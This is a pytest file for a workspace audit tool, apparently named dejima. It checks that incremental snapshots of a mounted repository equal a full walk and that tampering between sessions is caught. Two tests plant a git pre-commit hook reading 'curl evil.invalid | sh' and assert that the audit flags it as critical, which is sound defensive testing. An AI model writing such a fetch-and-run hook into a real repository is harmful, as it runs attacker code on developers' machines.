"""A session's start trusts what the last audit of the mount left only where the tree still lists
the same (dejima/adapters/mount_state.py): whatever the host did between sessions, the start equals a full
walk of what is on disk. Real trees, real sessions' start and end (no containers: the session's
writes are made by the test between start and end)."""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import stat
import time
from collections.abc import Callable
from operator import attrgetter
from pathlib import Path

import pytest

from dejima.adapters import mount_state
from dejima.adapters import tree_walk as walker
from dejima.core.audit import Finding, watched
from dejima.core.snapshot import listing_digest
from dejima.orchestration import exit_audit
from dejima.orchestration.exit_audit import Mount, MountState
from dejima.ui.console import UI, plain_console
from tests.unit.racy import short_racy_window, tick  # noqa: F401 - the fixture applies by being imported
from tests.unit.walk_parts import either_walk_part  # noqa: F401 - each test runs with and without the C part

HOOK = ".git/hooks/pre-commit"


def write(root: Path, path: str, text: str, mode: int = 0o644) -> None:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    write(repo, ".git/config", "[core]\n\tbare = false\n")
    write(repo, HOOK, "#!/bin/sh\nexit 0\n", 0o755)
    write(repo, ".vscode/settings.json", "{}\n")
    for top in range(4):
        for leaf in range(3):
            for n in range(6):
                write(repo, f"src/m{top}/p{leaf}/f{n}.py", f"x = {top * 100 + leaf * 10 + n}\n")
    (repo / "src" / "link").symlink_to("m0/p0/f0.py")
    tick()
    return repo


def session(root: Path, session_id: str, change: Callable[[Path], None] | None = None) -> list[Finding]:
    """A session's start, its writes, and its end audit, as the launcher runs them."""
    states = exit_audit.start(session_id, [Mount("workspace", root)])
    tick()
    if change is not None:
        change(root)
        tick()
    return exit_audit.finish(session_id, UI(plain_console(io.StringIO())), states=states)


def start_walk(root: Path) -> walker.Walked:
    """The start walk over what the last audit left (asserted to be there)."""
    recalled = mount_state.recall("workspace", root)
    assert recalled is not None
    return walker.start_snapshot(root, lambda path: watched(path), recalled.known())


def starts_alike(root: Path) -> MountState:
    """The incremental start and a full walk agree, entry by entry and in the bytes kept."""
    incremental = exit_audit.capture(Mount("workspace", root))
    full = exit_audit.capture(Mount("workspace", root), incremental=False)
    assert incremental.snapshot == full.snapshot
    assert incremental.kept == full.kept
    return incremental


def test_an_untouched_tree_is_trusted_whole(root: Path) -> None:
    session(root, "s1")
    walked = start_walk(root)
    assert walked.used_known and walked.changed == []
    assert len(walked.digests) == 1 + len([p for p in walked.snapshot if (root / p).is_dir()
                                            and not (root / p).is_symlink()])
    starts_alike(root)


def test_only_the_directories_a_session_changed_are_walked_again(root: Path) -> None:
    session(root, "s1", lambda r: write(r, "src/m1/p2/f3.py", "x = 'changed by the session'\n"))
    walked = start_walk(root)
    assert walked.changed and {p.rpartition("/")[0] for p in walked.changed} == {"src/m1/p2"}
    starts_alike(root)


@pytest.mark.parametrize("naive", [False, True], ids=["ctime", "control: mtime trusted"])
def test_a_host_rewrite_with_its_mtime_restored_is_seen(root: Path, monkeypatch: pytest.MonkeyPatch,
                                                        naive: bool) -> None:
    if naive:  # what a walk that trusts mtime and size, as a session could forge them, would do
        monkeypatch.setattr(walker, "_STAT_KEY", attrgetter("st_mode", "st_ino", "st_dev", "st_mtime_ns", "st_size"))
    session(root, "s1")
    hook = root / HOOK
    before = os.stat(hook)
    evil = "#!/bin/sh\nexit 1\n"  # the same size
    hook.write_text(evil)
    os.utime(hook, ns=(before.st_atime_ns, before.st_mtime_ns))
    after = os.stat(hook)
    assert (after.st_size, after.st_mtime_ns, after.st_ino) == (before.st_size, before.st_mtime_ns, before.st_ino)
    tick()
    start = exit_audit.capture(Mount("workspace", root))
    seen = start.snapshot[HOOK].sha256 == hashlib.sha256(evil.encode()).hexdigest()
    assert seen is not naive  # the trusted hash would be the old content's
    assert start.kept[HOOK] == evil.encode()  # kept bytes are read at every start


def test_what_the_host_added_removed_and_replaced_is_seen(root: Path) -> None:
    session(root, "s1")

    def host(r: Path) -> None:
        write(r, "src/m2/new.py", "new\n")
        (r / "src/m0/p1/f2.py").unlink()
        shutil.rmtree(r / "src/m3/p0")
        shutil.rmtree(r / "src/m3/p1")
        write(r, "src/m3/p1", "a file where a directory was\n")
        (r / "src/m1/p0/f0.py").unlink()
        write(r, "src/m1/p0/f0.py/inner.py", "a directory where a file was\n")
        (r / "src/m2/p2/f1.py").chmod(0o755)
        (r / "src/link").unlink()
        (r / "src/link").symlink_to("m2/new.py")
        write(r, ".vscode/tasks.json", '{"tasks": []}\n')

    host(root)
    tick()
    state = starts_alike(root)
    assert "src/m3/p0/f0.py" not in state.snapshot and state.snapshot["src/m3/p1"].kind == "file"
    assert state.snapshot["src/m2/p2/f1.py"].mode & 0o111 and state.snapshot["src/link"].target == "m2/new.py"
    assert ".vscode/tasks.json" in state.kept
    session(root, "s2")  # and the state kept after that start is as good
    starts_alike(root)


def test_a_directory_with_a_child_changed_within_the_racy_window_is_read_again(
        root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    session(root, "s1")
    newest_before = max(os.lstat(p).st_ctime_ns for p in root.rglob("*"))
    tick()
    write(root, "src/m0/p0/f0.py", "x = 'just now'\n")  # as if in the clock tick of the next walk
    # The window reaches back past that write, not to any earlier one.
    monkeypatch.setattr(walker, "RACY_NS", time.time_ns() - newest_before - 1)
    states = exit_audit.start("s2", [Mount("workspace", root)])
    digests = states[0].start.digests if states[0].start else {}
    assert "src/m0/p0" not in digests and digests.get("src/m0/p1") is not None
    exit_audit.finish("s2", UI(plain_console(io.StringIO())), states=states)
    monkeypatch.setattr(walker, "RACY_NS", 20_000_000)
    tick()
    again = start_walk(root)  # nothing changed since: the racy directory alone is read again
    assert {p.rpartition("/")[0] for p in again.changed} == {"src/m0/p0"}
    assert again.digests.get("src/m0/p0") is not None  # now old enough to be trusted


def test_a_walk_records_no_digest_for_what_changed_within_the_window(root: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(walker, "RACY_NS", 3_600 * 10**9)  # everything in the tree is that recent
    assert walker.start_snapshot(root).digests == {}
    monkeypatch.setattr(walker, "RACY_NS", 20_000_000)
    assert len(walker.start_snapshot(root).digests) > 20


def test_a_moved_or_replaced_workspace_is_walked_in_full(root: Path) -> None:
    session(root, "s1")
    assert mount_state.recall("workspace", root) is not None
    moved = root.with_name("moved")
    root.rename(moved)
    assert mount_state.recall("workspace", moved) is None
    shutil.copytree(moved, root, symlinks=True)  # the same path, another directory
    assert mount_state.recall("workspace", root) is None
    starts_alike(root)


def test_the_state_is_private_and_a_damaged_or_missing_one_means_a_full_walk(root: Path) -> None:
    session(root, "s1")
    directory = mount_state.mounts_dir() / mount_state.mount_identity("workspace", root).key
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in directory.iterdir())
    write(root, "src/m2/new.py", "new\n")
    tick()
    recalled = mount_state.recall("workspace", root)
    assert recalled is not None
    recalled.base.unlink()  # gone between sessions: the start walks in full
    starts_alike(root)
    (directory / "state").write_bytes((directory / "state").read_bytes()[:-3])
    assert mount_state.recall("workspace", root) is None


def test_a_crashed_launchers_incremental_start_is_audited_from_disk(root: Path) -> None:
    session(root, "s1", lambda r: write(r, "src/m1/p1/f1.py", "changed\n"))
    exit_audit.start("s2", [Mount("workspace", root)])  # this launcher dies
    tick()
    write(root, HOOK, "#!/bin/sh\ncurl evil.invalid | sh\n", 0o755)
    tick()
    found = exit_audit.finish("s2", UI(plain_console(io.StringIO())))
    assert [f.path for f in found if f.severity == "critical"] == [HOOK]
    starts_alike(root)


def test_a_large_delta_is_folded_into_a_new_base(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(mount_state, "COMPACT_MIN", 5)
    session(root, "s1")
    directory = mount_state.mounts_dir() / mount_state.mount_identity("workspace", root).key
    first = {p.name for p in directory.glob("base-*")}
    def rewrite(r: Path) -> None:
        for n in range(6):
            write(r, f"src/m2/p1/f{n}.py", "changed\n")

    session(root, "s2", rewrite)
    session(root, "s3")  # starts with the 6 entries of src/m2/p1 recorded again: past 5, a new base
    bases = {p.name for p in directory.glob("base-*")}
    assert len(bases) == 1 and bases != first
    recalled = mount_state.recall("workspace", root)
    assert recalled is not None and recalled.delta == ([], [])
    starts_alike(root)


def test_a_large_delta_is_made_a_base_while_the_session_runs(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The host changed many files between sessions (a branch switched): the start's delta is past
    # what a new base replaces. The base is written during the session, not on the end's path.
    monkeypatch.setattr(mount_state, "COMPACT_MIN", 5)
    session(root, "s1")
    def rewrite(r: Path) -> None:
        for n in range(6):
            write(r, f"src/m2/p1/f{n}.py", "changed\n")

    session(root, "s2", rewrite)
    states = exit_audit.start("s3", [Mount("workspace", root)])
    for state in states:
        state.join()
    start, snapshot = states[0].start, states[0].snapshot
    assert start is not None and start.delta == ([], []) and start.base.name.endswith(".base.snapshot")
    assert mount_state.load_snapshot(start.base) == snapshot
    assert exit_audit._load("s3")[0].snapshot == snapshot  # what a launcher that died leaves is whole
    tick()
    exit_audit.finish("s3", UI(plain_console(io.StringIO())), states=states)
    recalled = mount_state.recall("workspace", root)
    assert recalled is not None and recalled.delta == ([], []) and mount_state.load_snapshot(recalled.base) == snapshot
    starts_alike(root)


def test_listing_digests_cover_every_name_and_value_even_past_64_bits() -> None:
    digest = listing_digest(["a", "b"], [1, 2, 3, 4])
    assert digest == listing_digest(["a", "b"], [1, 2, 3, 4])
    assert len({digest, listing_digest(["b", "a"], [1, 2, 3, 4]), listing_digest(["a", "b"], [1, 2, 3, 5]),
                listing_digest(["ab"], [1, 2, 3, 4])}) == 4
    assert listing_digest(["a"], [2**64 - 1, -1]) != listing_digest(["a"], [2**64 - 2, -1])  # inode numbers


def test_a_deferred_start_is_loaded_from_its_own_link_and_equals_a_full_walk(root: Path) -> None:
    session(root, "s1", lambda r: write(r, "src/m3/p2/f0.py", "changed\n"))
    write(root, ".vscode/tasks.json", '{"tasks": []}\n')  # the host, between sessions
    tick()
    directory = mount_state.mounts_dir() / mount_state.mount_identity("workspace", root).key
    states = exit_audit.start("s2", [Mount("workspace", root)])
    for base in directory.glob("base-*"):  # another session's end replaced the mount's base meanwhile
        base.unlink()
    full = exit_audit.capture(Mount("workspace", root), incremental=False)
    assert states[0].ready() == full.snapshot and states[0].kept == full.kept
    write(root, HOOK, "#!/bin/sh\ncurl evil.invalid | sh\n", 0o755)
    found = exit_audit.finish("s2", UI(plain_console(io.StringIO())), states=states)
    assert [f.path for f in found if f.severity == "critical"] == [HOOK]


def test_kept_bytes_are_never_read_through_a_directory_replaced_by_a_link(root: Path, tmp_path: Path) -> None:
    session(root, "s1")
    outside = tmp_path / "outside"
    write(outside, "pre-commit", "host secret\n")

    def replace_hooks(r: Path) -> None:  # what a session can do, and its audit reports
        shutil.rmtree(r / ".git" / "hooks")
        (r / ".git" / "hooks").symlink_to(outside)

    session(root, "s2", replace_hooks)
    assert (root / HOOK).read_text() == "host secret\n"  # through the link, as a careless reader would
    state = starts_alike(root)
    assert HOOK not in state.kept and HOOK not in state.snapshot
    states = exit_audit.start("s3", [Mount("workspace", root)])
    assert HOOK not in states[0].kept
    exit_audit.finish("s3", UI(plain_console(io.StringIO())), states=states)


def test_the_state_of_a_mount_unused_for_a_month_is_dropped(root: Path, tmp_path: Path) -> None:
    session(root, "s1")
    old = mount_state.mounts_dir() / mount_state.mount_identity("workspace", root).key
    month_ago = time.time() - mount_state.STALE_SECONDS - 60
    os.utime(old / "state", (month_ago, month_ago))
    other = tmp_path / "other"
    write(other, "a.txt", "a\n")
    session(other, "s2")
    assert not old.exists() and mount_state.recall("workspace", other) is not None
